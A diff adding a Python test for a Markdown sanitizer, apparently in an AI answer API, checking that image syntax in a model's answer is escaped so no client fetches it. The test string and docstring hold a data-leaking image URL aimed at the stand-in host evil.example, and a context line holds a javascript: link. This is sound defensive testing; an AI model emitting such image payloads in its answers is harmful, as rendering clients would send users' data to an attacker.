@@ -236,3 +236,18 @@ def test_a_tag_commonmark_does_not_count_but_browsers_run_is_escaped_too():
     # a link that runs script is shown as text; an ordinary link stays a link
     assert escape_raw_html("See [help](javascript:alert(3)) or [the page](https://example.org) [S1].") == \
         "See [help]\\(javascript:alert(3)) or [the page](https://example.org) [S1]."
+
+
+def test_an_image_in_the_answer_is_made_text_so_no_client_fetches_it():
+    """The s44 breaker: a model writing "![pixel](https://evil.example/leak?d=secret)" kept it in the API's `answer`
+    (Markdown): a help-desk tool rendering it would fetch the address unasked, carrying what it holds. Its "[" is
+    escaped, so every renderer shows the text; a link stays a link, and code is shown as written."""
+    from markdown_it import MarkdownIt
+
+    leak = "See ![pixel](https://evil.example/leak?d=secret) and [the page](https://example.org) [S1]."
+    escaped = escape_raw_html(leak)
+    assert escaped == "See !\\[pixel](https://evil.example/leak?d=secret) and [the page](https://example.org) [S1]."
+    rendered = MarkdownIt("commonmark").render(escaped)
+    assert "<img" not in rendered and '<a href="https://example.org">the page</a>' in rendered
+    assert escape_raw_html("Reference style: ![x][ref] [S1].") == "Reference style: !\\[x][ref] [S1]."
+    assert escape_raw_html("Write `![alt](src)` for an image.") == "Write `![alt](src)` for an image."
